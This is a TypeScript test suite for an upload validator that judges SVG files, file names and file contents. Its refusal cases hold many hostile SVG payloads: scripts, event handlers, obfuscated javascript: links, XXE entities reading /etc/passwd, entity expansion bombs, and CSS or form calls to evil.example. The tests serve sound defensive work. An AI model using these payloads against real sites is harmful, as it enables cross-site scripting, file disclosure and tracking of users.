import { zipSync } from 'fflate';
import sharp from 'sharp';
import { describe, expect, test } from 'vitest';
import { isAppError } from '#platform/shared/errors.ts';
import { assertContent, assertFileName } from './file-check.ts';
import { judgeSvg, type SvgVerdict } from './svg.ts';

const svg = (inside: string, attributes = '') =>
  `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" ${attributes}>${inside}</svg>`;

describe('an SVG that only draws is accepted:', () => {
  test.each([
    ['shapes', svg('<rect width="1" height="2" fill="#0b7157"/><path d="M0 0 L1 1z"/>', 'viewBox="0 0 9 9"')],
    ['nothing', '<svg/>'],
    ['an XML declaration', `<?xml version="1.0"?>${svg('<g/>')}`],
    [
      'an XML declaration with everything',
      `<?xml version="1.0" encoding="UTF-8" standalone="no"?>\n${svg('<g/>')}\n`,
    ],
    ['a byte order mark', `\uFEFF<?xml version="1.0"?>${svg('')}`],
    [
      'the document type of SVG 1.1',
      `<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">${svg('')}`,
    ],
    [
      'title and description',
      svg('<title>드론 팔 &amp; 다리 &lt;3</title><desc>on a scale: 1 &#8212; 2</desc>'),
    ],
    ['a comment', svg('<!-- <script>no</script> --><g/>')],
    ['a definition used', svg('<defs><g id="a"/></defs><use href="#a"/><use xlink:href=" #a "/>')],
    ['a gradient', svg('<linearGradient id="g"/><rect fill="url(#g)" style="stroke:url(#g)"/>')],
    ['a gradient in quotes', svg(`<rect fill="url('#g')" style='fill:url("#g")' stroke="url( #g )"/>`)],
    ['a gradient that another one continues', svg('<linearGradient id="h" href="#g"/>')],
    [
      'clip path, mask, filter and marker',
      svg('<g clip-path="url(#c)" mask="url(#m)" filter="url(#f)" marker-end="url(#e)"/>'),
    ],
    ['a style sheet', svg('<style>.a{fill:red} .b>.c{stroke:#000}</style>')],
    ['a style sheet in CDATA', svg('<style type="text/css"><![CDATA[.a > .b { fill: url(#g) }]]></style>')],
    ['a picture within', svg('<image href="data:image/png;base64,iVBORw0KGgo="/>')],
    ['a link within', svg('<a href="#part"><text>부품</text></a>')],
    ['text with CSS-like words', svg('<text>C:\\files \\ url (x) import</text>')],
    [
      "an editor's own elements",
      svg('<sodipodi:namedview xmlns:sodipodi="http://sodipodi.sourceforge.net/" id="x"/>'),
    ],
    ['a prefix for SVG', '<s:svg xmlns:s="http://www.w3.org/2000/svg"><s:rect/></s:svg>'],
    [
      'attributes that contain "on"',
      svg('<text font-family="Pretendard" baseline-shift="1" direction="ltr"/>'),
    ],
  ])('%s', (_, text) => {
    expect(judgeSvg(text)).toBe('harmless');
  });
});

const xhtml = 'xmlns:h="http://www.w3.org/1999/xhtml"';

const harmful: Record<string, [string, string][]> = {
  'what takes long to read and draws nothing': [
    ['elements in each other without end', svg('<g>'.repeat(300) + '</g>'.repeat(300))],
    ['attributes without end', svg(`<g ${Array.from({ length: 1001 }, (_, at) => `a${at}=""`).join(' ')}/>`)],
    ['escapes without end', svg(`<style>${'\\7'.repeat(100_001)}</style>`)],
  ],
  'a script': [
    ['plain', svg('<script>alert(1)</script>')],
    ['in capitals', svg('<SCRIPT>alert(1)</SCRIPT>')],
    ['in mixed case', svg('<ScRiPt>alert(1)</ScRiPt>')],
    ['empty', svg('<script/>')],
    ['from elsewhere', svg('<script href="https://evil.example/x.js"/>')],
    ['from data', svg('<script xlink:href="data:text/javascript,alert(1)"/>')],
    ['with a prefix', svg('<s:script xmlns:s="http://www.w3.org/2000/svg">alert(1)</s:script>')],
    ['of XHTML', svg(`<h:script ${xhtml}>alert(1)</h:script>`)],
    ['in a definition', svg('<defs><g><script>alert(1)</script></g></defs>')],
    ['in CDATA', svg('<script><![CDATA[alert(1)]]></script>')],
    ['as the root', '<script xmlns="http://www.w3.org/2000/svg">alert(1)</script>'],
  ],
  'an event handler': [
    ['of the root', svg('', 'onload="alert(1)"')],
    ['of a shape', svg('<rect onclick="alert(1)"/>')],
    ['in capitals', svg('<rect ONCLICK="alert(1)"/>')],
    ['in mixed case', svg('<rect oNmOuSeOvEr="alert(1)"/>')],
    ['with a prefix', svg('<rect x:onclick="alert(1)" xmlns:x="x"/>')],
    ['of an animation', svg('<animateTransform onbegin="alert(1)"/>')],
    ['empty', svg('<rect onfocus=""/>')],
    ['unheard of', svg('<rect onwhatever="1"/>')],
  ],
  'an address to run or to leave by': [
    ['javascript', svg('<a href="javascript:alert(1)"><rect/></a>')],
    ['javascript in mixed case', svg('<a xlink:href="JaVaScRiPt:alert(1)"/>')],
    ['javascript after space', svg('<a href="  javascript:alert(1)"/>')],
    ['javascript after control characters', svg('<a href="&#9;&#10;javascript:alert(1)"/>')],
    ['javascript with a line break within', svg('<a href="java&#10;script:alert(1)"/>')],
    ['javascript with a tab within', svg('<a href="java&#x9;script&#x3A;alert(1)"/>')],
    [
      'javascript in entities',
      svg('<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)"/>'),
    ],
    ['javascript in padded entities', svg('<a href="&#x0000006A;avascript:alert(1)"/>')],
    [
      'javascript under another prefix',
      svg('<a x:href="javascript:alert(1)" xmlns:x="http://www.w3.org/1999/xlink"/>'),
    ],
    ['javascript in any attribute', svg('<rect to="javascript:alert(1)"/>')],
    ['vbscript', svg('<a href="vbscript:x"/>')],
    ['a page as data', svg('<a href="data:text/html,&lt;script&gt;alert(1)&lt;/script&gt;"/>')],
    ['a page as base64 data', svg('<a href="data:text/html;base64,PHNjcmlwdD4="/>')],
    ['another SVG as data', svg('<use href="data:image/svg+xml;base64,PHN2Zz4=#x"/>')],
    ['an SVG as a picture', svg('<image href="data:image/svg+xml,&lt;svg/&gt;"/>')],
    ['another site', svg('<a href="https://evil.example/"><rect/></a>')],
    ['another site without a scheme', svg('<a href="//evil.example/"/>')],
    ['a drawing elsewhere', svg('<use href="https://evil.example/x.svg#a"/>')],
    ['a drawing beside', svg('<use xlink:href="other.svg#a"/>')],
    ['a picture elsewhere', svg('<image href="https://evil.example/track.png"/>')],
    ['a file', svg('<image href="file:///etc/passwd"/>')],
    ['an empty address: this document', svg('<use href=""/>')],
    ['a source', svg('<g src="https://evil.example/"/>')],
    ['a filter picture', svg('<filter><feImage href="https://evil.example/"/></filter>')],
  ],
  'an animation that could change an address': [
    ['set', svg('<a href="#x"><set attributeName="href" to="javascript:alert(1)"/></a>')],
    ['set to something else', svg('<set attributeName="href" to="https://evil.example"/>')],
    ['animate', svg('<a><animate attributeName="xlink:href" values="#a;https://evil.example"/></a>')],
    ['animate in mixed case', svg('<AnImAtE attributeName="href"/>')],
    ['animate with a prefix', svg('<s:animate xmlns:s="http://www.w3.org/2000/svg" attributeName="href"/>')],
  ],
  'what is not drawn': [
    ['foreign content', svg('<foreignObject><p>hello</p></foreignObject>')],
    ['foreign content in lower case', svg('<foreignobject/>')],
    ['a frame', svg(`<h:iframe ${xhtml} src="#x"/>`)],
    ['an embedded object', svg('<embed/>')],
    ['an object', svg('<object data="x"/>')],
    ['a handler', svg('<handler type="application/ecmascript">alert(1)</handler>')],
    [
      'a refresh of XHTML',
      svg(`<h:meta ${xhtml} http-equiv="refresh" content="0;url=https://evil.example"/>`),
    ],
    ['a video of XHTML', svg(`<h:video ${xhtml} poster="https://evil.example/"/>`)],
    ['a form of XHTML', svg(`<h:form ${xhtml} action="https://evil.example/"><h:input/></h:form>`)],
    ['XHTML by its own default', svg('<p xmlns="http://www.w3.org/1999/xhtml">x</p>')],
    ['XHTML in entities', svg('<p xmlns="http://www.w3.org/1999/xhtm&#108;">x</p>')],
    ['XHTML named by the root', `<svg xmlns="http://www.w3.org/1999/xhtml"><p/></svg>`],
  ],
  'a style that fetches': [
    ['an import', svg('<style>@import "https://evil.example/x.css";</style>')],
    ['an import in mixed case', svg('<style>@ImPoRt url(#x);</style>')],
    ['an import in an attribute', svg('<g style="@import x"/>')],
    ['an import in CDATA', svg('<style><![CDATA[@import "https://evil.example/x.css";]]></style>')],
    ['an import parted by a comment', svg('<style>@im<!-- -->port "https://evil.example/x.css";</style>')],
    ['an import parted by CDATA', svg('<style>@im<![CDATA[port]]> "https://evil.example/x.css";</style>')],
    ['an import parted by two CDATA', svg('<style><![CDATA[@imp]]><![CDATA[ort "x"]]></style>')],
    ['an import around an element', svg('<style>@im<g/>port "x"</style>')],
    ['an import in entities', svg('<style>&#64;import "x"</style>')],
    ['an import in CSS numbers', svg('<style>@\\69mport "x"</style>')],
    ['an import in padded CSS numbers', svg('<style>@\\000069 mport "x"</style>')],
    ['an import with a needless backslash', svg('<style>@i\\mport "x"</style>')],
    ['a background', svg('<style>svg{background:url(https://evil.example/)}</style>')],
    ['a background in quotes', svg(`<style>svg{background:url( "https://evil.example/")}</style>`)],
    ['a background in CDATA', svg('<style><![CDATA[svg{background:url(//evil.example)}]]></style>')],
    ['a background in an attribute', svg('<rect style="background:URL(\'https://evil.example\')"/>')],
    ['a background in CSS numbers', svg('<rect style="background:u\\72l(https://evil.example)"/>')],
    ['a background as data', svg('<style>svg{background:url(data:image/svg+xml,x)}</style>')],
    ['a set of pictures', svg(`<style>svg{background:image-set('https://evil.example/' 1x)}</style>`)],
    [
      'an older set of pictures',
      svg(`<g style="background:-webkit-image-set('https://evil.example/' 1x)"/>`),
    ],
    ['a font', svg('<style>@font-face{font-family:x;src:url(https://evil.example/x.woff2)}</style>')],
    ['a fill elsewhere', svg('<rect fill="url(https://evil.example/x.svg#g)"/>')],
    ['a fill beside', svg('<rect fill="url(x.svg#g)"/>')],
    ['a filter elsewhere', svg('<rect filter="url(//evil.example/#f)"/>')],
    [
      'a harmless one before a harmful one',
      svg('<rect style="fill:url(#a);stroke:url(https://evil.example)"/>'),
    ],
    ['an expression', svg('<rect style="width:expression(alert(1))"/>')],
  ],
  'an instruction or a declaration': [
    ['a style sheet', `<?xml-stylesheet href="https://evil.example/x.css"?>${svg('')}`],
    ['a transformation', `<?xml-stylesheet type="text/xsl" href="#x"?>${svg('')}`],
    ['within the drawing', svg('<?php echo 1 ?>')],
    ['after the drawing', `${svg('')}<?x y?>`],
    ['an entity', `<!DOCTYPE svg [<!ENTITY x "y">]>${svg('&x;')}`],
    ['an entity from a file', `<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>${svg('&x;')}`],
    ['laughing entities', `<!DOCTYPE svg [<!ENTITY a "ha"><!ENTITY b "&a;&a;">]>${svg('&b;')}`],
    ['an attribute by default', `<!DOCTYPE svg [<!ATTLIST svg onload CDATA "alert(1)">]>${svg('')}`],
    ['an empty subset', `<!DOCTYPE svg []>${svg('')}`],
  ],
  'what is no SVG': [
    ['nothing', ''],
    ['text', 'hello'],
    ['HTML', '<!DOCTYPE html><html><body></body></html>'],
    ['another root', '<g xmlns="http://www.w3.org/2000/svg"/>'],
    ['an SVG inside something', `<x>${svg('')}</x>`],
    ['not closed', '<svg><g></svg>'],
    ['cut off', '<svg><rect '],
    ['two roots', '<svg/><svg/>'],
    ['something after', '<svg/>x'],
    ['an attribute twice', '<svg a="1" a="2"/>'],
    ['an attribute without quotes', '<svg><rect onload=alert(1)></svg>'],
    ['an unknown entity', svg('&nbsp;')],
    ['a control character', svg('\u0001')],
  ],
};

/** The sender is told what is wrong, in words that do not mention scripts. */
const verdicts: Record<string, SvgVerdict> = {
  'what takes long to read and draws nothing': 'complex',
  'what is no SVG': 'broken',
};

for (const [what, cases] of Object.entries(harmful)) {
  describe(`an SVG is refused for ${what}:`, () => {
    test.each(cases)('%s', (_, text) => {
      expect(judgeSvg(text)).toBe(verdicts[what] ?? 'harmful');
    });
  });
}

async function refusal(check: () => unknown): Promise<unknown> {
  try {
    await check();
  } catch (error) {
    if (isAppError(error)) return { code: error.kind.code, fields: Object.keys(error.fields ?? {}) };
    throw error;
  }
  return 'taken';
}

describe('the name of an upload', () => {
  test.each<[string, string]>([
    ['arm.stl', 'taken'],
    ['드론 팔.3MF', 'taken'],
    ['../arm.stl', 'file_name'],
    ['', 'file_name'],
    ['.stl', 'file_name'],
    ['arm.exe', 'file_type'],
    ['arm', 'file_type'],
    ['arm.stl.exe', 'file_type'],
  ])('%j: %s', async (name, expected) => {
    expect(await refusal(() => assertFileName(name, 'downloadFile'))).toEqual(
      expected === 'taken' ? 'taken' : { code: expected, fields: ['downloadFile'] },
    );
  });
});

test.each([
  ['드론 팔.stl'.normalize('NFD'), '드론 팔.stl'],
  ['CON.stl', '_CON.stl'],
  ['a\u200Bb.stl', 'ab.stl'],
  [`${'가'.repeat(150)}.stl`, `${'가'.repeat(83)}.stl`],
])('%j is stored as %j', (name, stored) => {
  expect(assertFileName(name, 'downloadFile')).toBe(stored);
});

test('an extension that only an unseen character hides is refused', async () => {
  expect(await refusal(() => assertFileName('a.e\u200Bxe.stl', 'downloadFile'))).toMatchObject({
    code: 'file_double_extension',
  });
});

describe('the content of an upload', () => {
  const picture = () => sharp({ create: { width: 2, height: 2, channels: 3, background: '#fff' } });
  const bytes: Record<string, () => Promise<Uint8Array>> = {
    nothing: async () => Buffer.alloc(0),
    text: async () => Buffer.from('solid 팔\n'),
    'a note that begins like a bitmap': async () => Buffer.from('BME280 센서 정리\n'),
    binary: async () => Buffer.from([0, 1, 2, 3]),
    PNG: () => picture().png().toBuffer(),
    JPEG: () => picture().jpeg().toBuffer(),
    ZIP: async () => zipSync({ 'a.txt': Buffer.from('a') }),
    PDF: async () => Buffer.from('%PDF-1.7\n'),
    SVG: async () => Buffer.from(`<?xml version="1.0"?>${svg('')}`),
    'a Windows program': async () => Buffer.concat([Buffer.from('MZ'), Buffer.alloc(200)]),
    'a Linux program': async () => Buffer.concat([Buffer.from('\x7FELF\x02\x01\x01'), Buffer.alloc(100)]),
  };

  test.each<[string, string, string]>([
    ['a.png', 'PNG', 'taken'],
    ['a.png', 'JPEG', 'file_mismatch'],
    ['a.png', 'text', 'file_mismatch'],
    ['a.jpg', 'JPEG', 'taken'],
    ['a.zip', 'ZIP', 'taken'],
    ['a.zip', 'PDF', 'file_mismatch'],
    ['a.pdf', 'PDF', 'taken'],
    ['a.svg', 'SVG', 'taken'],
    ['a.svg', 'PNG', 'file_mismatch'],
    ['a.obj', 'text', 'taken'],
    ['a.md', 'a note that begins like a bitmap', 'taken'],
    ['a.obj', 'binary', 'file_mismatch'],
    ['a.stl', 'text', 'taken'],
    ['a.stl', 'binary', 'taken'],
    ['a.stl', 'a Windows program', 'file_mismatch'],
    ['a.bin', 'a Linux program', 'file_mismatch'],
    ['a.txt', 'a Windows program', 'file_mismatch'],
    ['a.stl', 'nothing', 'file_empty'],
    ['a.png', 'nothing', 'file_empty'],
  ])('%s with %s: %s', async (name, content, expected) => {
    const head = (await bytes[content]?.()) ?? Buffer.alloc(0);
    expect(await refusal(() => assertContent(name, head, 'downloadFile'))).toEqual(
      expected === 'taken' ? 'taken' : { code: expected, fields: ['downloadFile'] },
    );
  });
});
